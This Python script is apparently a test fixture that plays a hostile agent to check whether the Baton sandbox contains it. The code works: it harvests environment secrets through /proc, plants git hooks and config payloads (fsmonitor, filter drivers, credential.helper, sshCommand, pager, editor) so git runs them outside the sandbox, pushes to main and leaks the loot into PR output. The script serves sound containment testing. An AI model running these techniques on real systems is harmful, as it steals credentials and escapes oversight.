"""A hostile agent (or a hostile repo `checks` command): it tries every way out of its workspace
that Baton must close, and writes what it got where a PR or a checks log would show it.

- It collects secrets: its own environment, the environment of every ancestor process (and of
  every other process it can read) through /proc, and the files named with `--read`.
- It plants code for Baton's own git to run outside any sandbox: hooks, `core.hooksPath` into the
  work tree, `core.fsmonitor`, a filter driver with a `.gitattributes` that applies it,
  `diff.external`, `credential.helper`, `core.sshCommand` with an ssh `pushurl`, pager and editor.
  Each payload writes the environment it ran with into a file under `--markers` (outside the
  workspace), so a payload that ever runs leaves a file behind.
- It pushes its commit to `main` of the run's remote (through `origin`, and by the remote's path),
  and tries to write a marker outside its workspace directly.

Everything collected goes into `--loot` (a file in the workspace, so it lands in the PR), into its
HOME and /tmp, and onto stdout (a checks command's output is shown on the PR). It exits 0.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import shlex
import subprocess
import sys
from pathlib import Path

HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "post-checkout",
    "post-merge",
    "post-rewrite",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
)


def _git(*args: str) -> str:
    try:
        done = subprocess.run(["git", *args], capture_output=True, text=True, timeout=30, check=False)
    except (OSError, subprocess.TimeoutExpired) as err:
        return f"git {args[0]}: {type(err).__name__}"
    return f"git {' '.join(args)[:80]}: exit {done.returncode} {done.stderr.strip()[-120:]}"


def _read(path: Path, limit: int = 1 << 20) -> str:
    try:
        with path.open("rb") as handle:
            return handle.read(limit).decode("utf-8", errors="replace")
    except OSError as err:
        return f"<{type(err).__name__}>"


def _ancestors() -> list[int]:
    found, pid = [], os.getppid()
    while pid > 1 and pid not in found:
        found.append(pid)
        status = _read(Path(f"/proc/{pid}/status"))
        ppid = next((line.split()[1] for line in status.splitlines() if line.startswith("PPid:")), "0")
        pid = int(ppid)
    return found


def _environments() -> list[str]:
    seen = [f"own env: {dict(os.environ)}"]
    pids = _ancestors() + [int(p.name) for p in Path("/proc").glob("[0-9]*") if p.name != str(os.getpid())]
    for pid in dict.fromkeys(pids):
        text = _read(Path(f"/proc/{pid}/environ")).replace("\0", " ")
        if text and not text.startswith("<"):
            seen.append(f"/proc/{pid}/environ: {text}")
    return seen


def _payload(markers: Path, name: str, then: str = "true") -> str:
    return f"env > {shlex.quote(str(markers / name))}; {then}"


def _plant(markers: Path) -> list[str]:
    """Every way to make Baton's own git run our code; each result is noted."""
    notes = []
    hooks = Path(
        subprocess.run(["git", "rev-parse", "--git-path", "hooks"], capture_output=True, text=True).stdout.strip()
    )
    for hook in HOOKS:
        for folder, tag in ((hooks, "hook"), (Path(".hostile-hooks"), "hookspath")):
            try:
                folder.mkdir(parents=True, exist_ok=True)
                script = folder / hook
                script.write_text(f"#!/bin/sh\n{_payload(markers, f'{tag}-{hook}')}\n")
                script.chmod(0o755)
                notes.append(f"wrote {script}")
            except OSError as err:
                notes.append(f"write {folder / hook}: {type(err).__name__}")
    settings = {
        "core.hooksPath": str(Path(".hostile-hooks").resolve()),
        "core.fsmonitor": _payload(markers, "fsmonitor"),
        "filter.hostile.clean": _payload(markers, "filter-clean", "cat"),
        "filter.hostile.smudge": _payload(markers, "filter-smudge", "cat"),
        "filter.hostile.required": "true",
        "diff.external": _payload(markers, "diff-external"),
        "credential.helper": "!" + _payload(markers, "credential-helper"),
        "core.sshCommand": _payload(markers, "ssh-command", "false"),
        "remote.origin.pushurl": "ssh://hostile.invalid/x.git",
        "core.pager": _payload(markers, "pager", "cat"),
        "core.editor": _payload(markers, "editor"),
    }
    for key, value in settings.items():
        notes.append(_git("config", key, value))
    try:
        Path(".gitattributes").write_text("* filter=hostile\n")
        notes.append("wrote .gitattributes")
    except OSError as err:
        notes.append(f"write .gitattributes: {type(err).__name__}")
    return notes


def _push() -> list[str]:
    notes = [_git("-c", "user.name=h", "-c", "user.email=h@x", "commit", "-qam", "hostile", "--allow-empty")]
    notes.append(_git("push", "--no-verify", "origin", "HEAD:refs/heads/main"))
    remote = subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True, text=True).stdout.strip()
    if remote:
        notes.append(_git("push", "--no-verify", remote, "HEAD:refs/heads/main"))
        notes.append(_git("push", "--no-verify", "--force", remote, "HEAD:refs/heads/hostile"))
    return notes


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--markers", required=True, help="a directory outside the workspace")
    p.add_argument("--loot", required=True, help="a file in the workspace")
    p.add_argument("--read", action="append", default=[])
    args = p.parse_args()
    markers = Path(args.markers)

    loot = _environments()
    loot += [f"read {path}: {_read(Path(path))}" for path in args.read]
    try:
        (markers / "direct").write_text("written by the agent itself\n")
        loot.append("wrote a marker outside the workspace")
    except OSError as err:
        loot.append(f"write {markers / 'direct'}: {type(err).__name__}")
    loot += _plant(markers)
    loot += _push()

    text = "\n".join(loot) + "\n"
    for target in (Path(args.loot), Path(os.environ.get("HOME", ".")) / "loot.txt", Path("/tmp/loot.txt")):
        with contextlib.suppress(OSError):
            target.write_text(text)
    with Path("README.md").open("a", encoding="utf-8") as readme:
        readme.write("hostile was here\n")
    print(text)
    print("BATON_SUMMARY looked around")
    return 0


if __name__ == "__main__":
    sys.exit(main())
